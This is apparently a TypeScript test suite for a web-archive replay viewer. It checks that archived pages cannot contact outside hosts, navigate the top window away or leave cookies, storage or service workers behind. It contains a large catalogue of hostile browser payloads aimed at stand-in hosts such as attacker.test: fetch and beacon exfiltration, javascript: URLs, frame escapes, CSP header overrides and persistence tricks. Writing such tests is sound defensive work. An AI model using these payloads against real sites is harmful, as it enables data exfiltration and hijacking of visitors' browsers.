/** What archived pages do to who looks at them: nothing reaches the API's origin or the live web, and nothing stays. */
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext } from "puppeteer-core";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import { http, record } from "../warc-records.ts";
import { archivedFrame, type ReplayBrowser, replayBrowser } from "./replay-browser.ts";

const SITE = "https://attacker.test";
const OUT = "http://outside.test";
const TIMESTAMP = "20260102030405";

/** What asks for something and lets the page be: all run in one. `to` is a URL by the attack's name. */
const ASKING: Readonly<Record<string, string>> = {
  image: "raw('img', 'src', to)",
  script: "raw('script', 'src', to)",
  style: "raw('link', 'href', to, { rel: 'stylesheet' })",
  prefetch: "raw('link', 'href', to, { rel: 'prefetch' })",
  preload: "raw('link', 'href', to, { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous' })",
  frame: "raw('iframe', 'src', to)",
  object: "raw('object', 'data', to)",
  embed: "raw('embed', 'src', to)",
  video: "raw('video', 'src', to)",
  "style-url": "raw('style', 'id', 'x', { textContent: 'body{background:url(' + to + ')}' })",
  "native-src": "put(new Image(), HTMLImageElement, 'src', to)",
  "data-frame": "raw('iframe', 'src', 'data:text/html,' + script(asks(to)))",
  "srcdoc-frame": "put(add('iframe'), HTMLIFrameElement, 'srcdoc', script(asks(to)))",
  "blob-frame": "raw('iframe', 'src', URL.createObjectURL(new Blob([script(asks(to))], { type: 'text/html' })))",
  "frame-sandbox": "raw('iframe', 'srcdoc', script(asks(to)), { sandbox: 'allow-scripts allow-same-origin' })",
  "empty-frame": "add('iframe').contentWindow.fetch(to, { mode: 'no-cors' })",
  "javascript-frame": "raw('iframe', 'src', 'javascript:' + asks(to))",
  fetch: "fetch(to, { mode: 'no-cors' })",
  post: "fetch(to, { method: 'POST', mode: 'no-cors', body: '{}' })",
  xhr: "const x = new XMLHttpRequest(); x.open('GET', to); x.send()",
  beacon: "navigator.sendBeacon(to, 'x')",
  "event-source": "new EventSource(to)",
  socket: "new WebSocket(to.replace('http', 'ws'))",
  worker: "new Worker(URL.createObjectURL(new Blob([asks(to)])))",
  "worker-import": "new Worker(URL.createObjectURL(new Blob(['importScripts(\"' + to + '\")'])))",
  "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([asks(to)])))",
  import: "import(to)",
  "form-frame": "add('iframe', { name: 'f' }); form(to, { target: 'f', method: 'post', enctype: 'text/plain' })",
  ping: "const a = raw('a', 'href', '#x'); attribute(a, 'ping', to); a.click()",
  // the last one: while it is there, it is what relative links are resolved against
  base: "const b = add('base'); b.href = to; fetch(b.href, { mode: 'no-cors' }).finally(() => b.remove())",
};

const ASKERS = Object.keys(ASKING);
/** As many as a browser opens connections to one server. */
const AT_ONCE = 6;

/** What would leave something behind. */
const KEEPING: Readonly<Record<string, string>> = {
  cookie: "document.cookie = 'a=1; path=/'",
  "cookie-native": "native(Document, 'cookie').set.call(document, 'b=1; path=/')",
  "cookie-store": "cookieStore.set('c', '1')",
  storage: "native({ prototype: window }, 'localStorage').get.call(window).a = 1",
  "storage-plain": "localStorage.b = 1; sessionStorage.c = 1",
  caches: "caches.open('evil').then((cache) => cache.put('/x', new Response('x')))",
  database: "indexedDB.open('evil')",
  files: "navigator.storage.getDirectory().then((root) => root.getFileHandle('evil', { create: true }))",
  worker: "navigator.serviceWorker.register(to, { scope: '/' })",
  "worker-native": "native(Navigator, 'serviceWorker').get.call(navigator).register(to)",
  "worker-prototype": "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, to)",
};

/** What goes away, or sends others: each has a page of its own. */
const LEAVING: Readonly<Record<string, string>> = {
  "top-location": "top.location = to",
  "top-replace": "top.location.replace(to)",
  "parent-location": "parent.location = to",
  "own-location": "location = to",
  "javascript-location": "location = 'javascript:' + asks(to)",
  open: "window.open(to)",
  "open-native": "add('iframe').contentWindow.open(to)",
  "open-named": "window.open(to, '_top')",
  "top-link": "raw('a', 'href', to, { target: '_top' }).click()",
  "top-link-native": "const a = raw('a', 'href', to); attribute(a, 'target', '_top'); a.click()",
  "blank-link": "const a = raw('a', 'href', to, { rel: 'opener' }); attribute(a, 'target', '_blank'); a.click()",
  "javascript-link": "raw('a', 'href', 'javascript:' + asks(to)).click()",
  form: "form(to, { method: 'post', enctype: 'text/plain' })",
  "form-top": "attribute(form(to, {}, true), 'target', '_top').submit()",
  "frame-top": "raw('iframe', 'srcdoc', script('top.location=\"' + to + '\"'))",
  refresh: "raw('meta', 'http-equiv', 'refresh', { content: '0;url=' + to })",
  download: "raw('a', 'href', to, { download: 'x' }).click()",
  "static-link": "document.getElementById('static-link').click()",
  "static-script": "document.getElementById('static-script').click()",
  "static-button": "document.getElementById('static-button').click()",
  "static-svg": "document.getElementById('static-svg').dispatchEvent(new MouseEvent('click', { bubbles: true }))",
};

/** What needs no script, by a page each; `TO/…` is where it would lead. */
const LOADED: Readonly<Record<string, { headers?: string; body?: string; status?: string }>> = {
  "markup-image": { body: "<img src='TO/markup-image'>" },
  "markup-frame": { body: "<iframe src='TO/markup-frame'></iframe>" },
  "markup-object": { body: "<object data='TO/markup-object'></object>" },
  "markup-refresh": { body: "<meta http-equiv=refresh content='0;url=TO/markup-refresh'>" },
  "markup-policy": {
    body:
      "<meta http-equiv=Content-Security-Policy content='default-src * data: blob: \"unsafe-inline\"; connect-src *'>" +
      "<img src='TO/markup-policy'>",
  },
  "header-preload": { headers: "Link: <TO/header-preload>; rel=preload; as=image\r\n" },
  "header-refresh": { headers: "Refresh: 0; url=TO/header-refresh\r\n" },
  "header-policy": {
    headers:
      "Content-Security-Policy: default-src *; sandbox allow-same-origin allow-scripts allow-top-navigation\r\n" +
      "Access-Control-Allow-Origin: *\r\nService-Worker-Allowed: /\r\nSet-Cookie: d=1; Path=/\r\n",
    body: "<img src='TO/header-policy'>",
  },
  "header-report": {
    headers: "Content-Security-Policy: img-src 'none'; report-uri TO/header-report\r\n",
    body: "<img src='data:image/png,x'>",
  },
  redirect: { headers: "Location: TO/redirect\r\n", status: "302 Found" },
  unauthorized: {
    headers: 'WWW-Authenticate: Basic realm="x"\r\n',
    body: "<img src='TO/unauthorized'>",
    status: "401 Unauthorized",
  },
};

const functions = (codes: Readonly<Record<string, string>>): string =>
  Object.entries(codes)
    .map(([name, code]) => `"${name}"(to) { ${code} }`)
    .join(",\n");

const ATTACKS = `<!doctype html><title>t</title><body>
<a id=static-link href="TO/static-link" target=_top>x</a>
<a id=static-script href="java&#x0A;script:top.location='TO/static-script'">x</a>
<form><button id=static-button formaction="TO/static-button" formtarget=_top>x</button></form>
<svg><a href="TO/static-svg" target=_top><rect id=static-svg width=9 height=9 /></a></svg>
<script>
const native = (type, name) => Object.getOwnPropertyDescriptor(type.prototype, name);
const script = (code) => "<script>" + code + "</" + "script>";
const asks = (to) => "fetch('" + to + "',{mode:'no-cors'})";
function add(name, properties) {
  const element = Object.assign(document.createElement(name), properties);
  document.body.append(element);
  return element;
}
/* behind what watches over properties */
function attribute(element, name, value) {
  const node = document.createAttribute(name);
  node.value = value;
  element.setAttributeNode(node);
  return element;
}
function raw(name, attributeName, value, properties) {
  const element = attribute(Object.assign(document.createElement(name), properties), attributeName, value);
  document.body.append(element);
  return element;
}
const put = (element, type, name, value) => native(type, name).set.call(element, value);
function form(to, properties, waits) {
  const made = raw("form", "action", to, properties);
  if (!waits) made.submit();
  return made;
}
const asking = {${functions(ASKING)}}, keeping = {${functions(KEEPING)}}, leaving = {${functions(LEAVING)}};
let used = false;
function run(attacks, names, to) {
  for (const name of names) try { attacks[name](to + name); } catch {}
}
</script>`;

let opened: ReplayBrowser;
/** Gives everybody what was sent as it was sent. */
let naive: Server;
let api: string;
let safe: BrowserContext;
let unsafe: BrowserContext;
/** Of replay: rewritten pages, and those that are given as they were sent. */
let viewers: Viewer[];
let other: Viewer;

beforeAll(async () => {
  opened = await replayBrowser([]);
  api = `http://127.0.0.1:${opened.api.port}`;
  const sent = new Map<string, { status: string; headers: string; body: string }>();
  const send = (path: string, body: string, { headers = "", status = "200 OK", type = "text/html" } = {}) =>
    sent.set(`${SITE}/${path}`, { status, headers: `Content-Type: ${type}\r\n${headers}`, body });
  send("", "<!doctype html><title>t</title>");
  send("attacks", ATTACKS);
  send("sw.js", "onfetch = () => {}", { headers: "Service-Worker-Allowed: /\r\n", type: "text/javascript" });
  for (const [name, { body = "", ...answer }] of Object.entries(LOADED)) {
    send(name, `<!doctype html><title>t</title><body>${body}`, answer);
  }
  const ledTo = (text: string, who: string) => text.replaceAll("TO/", `${api}/${who}/`);
  await opened.setup.importRecords(
    [...sent].map(([url, { status, headers, body }]) =>
      record(http(ledTo(body, "archived"), ledTo(headers, "archived"), status), { url, date: "2026-01-02T03:04:05Z" }),
    ),
  );
  naive = createServer((request, response) => {
    const [, modifier, url = ""] = /^\/\d+(\w\w_)?\/(.*)$/.exec(request.url ?? "") ?? [];
    const answer = sent.get(url);
    if (answer === undefined) return void response.writeHead(404).end();
    if (modifier === undefined) {
      return void response.writeHead(200, { "content-type": "text/html" }).end("<iframe></iframe>");
    }
    const lines = ledTo(answer.headers, "naive").split("\r\n");
    const headers = lines.flatMap((line) => /^(.*?): (.*)$/.exec(line)?.slice(1) ?? []);
    response.writeHead(Number.parseInt(answer.status, 10), headers).end(ledTo(answer.body, "naive"));
  }).listen(0, "127.0.0.1");
  await once(naive, "listening");
  const naiveUrl = `http://127.0.0.1:${(naive.address() as AddressInfo).port}`;
  safe = await opened.browser.createBrowserContext();
  unsafe = await opened.browser.createBrowserContext();
  viewers = [await viewer(safe, opened.server.url, "mp_"), await viewer(safe, opened.server.url, "id_")];
  other = await viewer(unsafe, naiveUrl, "mp_");
});

afterAll(async () => {
  await opened?.close();
  naive?.closeAllConnections();
  naive?.close();
});

/** What is kept at an origin, as a page of its own there finds it. */
const KEPT = `(async () => {
  const files = [];
  for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
  return {
    cookies: document.cookie.split("; ").sort().join("; "),
    storage: Object.keys({ ...localStorage, ...sessionStorage }).sort(),
    caches: await caches.keys(),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    files,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  };
})()`;

type Viewer = Awaited<ReturnType<typeof viewer>>;

/** A window with a frame in which archived pages are opened. */
async function viewer(context: BrowserContext, base: string, modifier: "mp_" | "id_") {
  const page = await context.newPage();
  const window = `${base}/${TIMESTAMP}/${SITE}/`;
  const within = (path: string) => `${base}/${TIMESTAMP}${modifier}/${SITE}/${path}`;
  return {
    page,
    within,
    hasLeft: () => page.url() !== window,
    async open(path: string): Promise<void> {
      if (page.url() !== window) await page.goto(window, { waitUntil: "load" });
      await page.evaluate(`new Promise((done) => {
        const frame = document.querySelector("iframe");
        frame.addEventListener("load", done, { once: true });
        frame.src = ${JSON.stringify(within(path))};
      })`);
    },
    async attack(code: string): Promise<void> {
      await this.open("attacks");
      const frame = await vi.waitFor(
        async () => {
          const found = archivedFrame(page);
          expect([found.url(), await found.evaluate("used")]).toEqual([within("attacks"), false]);
          return found;
        },
        { timeout: 120_000 },
      );
      // it may leave before it has answered
      await frame.evaluate(`used = true; ${code}; undefined`).catch(() => undefined);
    },
  };
}

const pathsOf = (heads: readonly string[]) => heads.map((head) => /^\w+ \/([^\s?]*)/.exec(head)?.[1] ?? head);

/**
 * What came of these attacks in the viewers of replay, once the other one, which begins later, has let all of them
 * through.
 * @param attackOther called again while not all were seen: on a busy machine a page may go before it has asked
 */
async function reached(
  names: readonly string[],
  attackOther: () => Promise<void>,
  requests = opened.asked,
): Promise<string[]> {
  const { asked, trapped } = opened;
  const wanted = names.map((name) => `naive/${name}`);
  const allSeen = () => expect(pathsOf(requests)).toEqual(expect.arrayContaining(wanted));
  await vi.waitFor(
    async () => {
      await attackOther();
      await vi.waitFor(allSeen, { timeout: 20_000 });
    },
    { timeout: 240_000 },
  );
  const found = pathsOf([...asked.splice(0), ...trapped.splice(0)]).filter((path) => !path.startsWith("naive/"));
  for (const each of viewers) if (each.hasLeft()) found.push(`${names}: the window is at ${each.page.url()}`);
  const ours = [...viewers, other].map(({ page }) => page);
  for (const context of [safe, unsafe]) {
    for (const page of await context.pages()) {
      if (ours.includes(page)) continue;
      if (context === safe) found.push(`${names}: another window is at ${page.url()}`);
      await page.close();
    }
  }
  return found;
}

it("ask nobody but replay, rewritten or as they were sent", async () => {
  const found: string[] = [];
  for (const [to, requests] of [
    [api, opened.asked],
    [OUT, opened.trapped],
  ] as const) {
    for (let at = 0; at < ASKERS.length; at += AT_ONCE) {
      const names = ASKERS.slice(at, at + AT_ONCE);
      const run = (who: string) => `run(asking, ${JSON.stringify(names)}, "${to}/${who}/")`;
      for (const each of viewers) await each.attack(run("archived"));
      found.push(...(await reached(names, () => other.attack(run("naive")), requests)));
    }
  }
  expect(found).toEqual([]);
});

it("ask nobody but replay by markup and headers", async () => {
  const found: string[] = [];
  for (const name of Object.keys(LOADED)) {
    for (const each of viewers) await each.open(name);
    found.push(...(await reached([name], () => other.open(name))));
  }
  expect(found).toEqual([]);
});

it("send neither themselves nor their window away", async () => {
  const found: string[] = [];
  for (const name of Object.keys(LEAVING)) {
    for (const each of viewers) await each.attack(`leaving["${name}"]("${api}/archived/${name}")`);
    found.push(...(await reached([name], () => other.attack(`leaving["${name}"]("${api}/naive/${name}")`))));
  }
  expect(found).toEqual([]);
});

it("leave nothing behind", async () => {
  for (const each of [...viewers, other]) {
    await each.attack(`for (const name in keeping) try { keeping[name]("${each.within("sw.js")}") } catch {}`);
  }
  const all = { cookies: "a=1; b=1; c=1; d=1", storage: ["a", "b", "c"], caches: ["evil"], workers: 2 };
  const others = { databases: ["evil"], files: ["evil"] };
  await vi.waitFor(async () => expect(await other.page.evaluate(KEPT)).toEqual({ ...all, ...others }), {
    timeout: 120_000,
  });
  const nothing = { cookies: "", storage: [], caches: [], workers: 0, databases: [], files: [] };
  for (const { page } of viewers) expect(await page.evaluate(KEPT)).toEqual(nothing);
  expect(await safe.cookies()).toEqual([]);
});
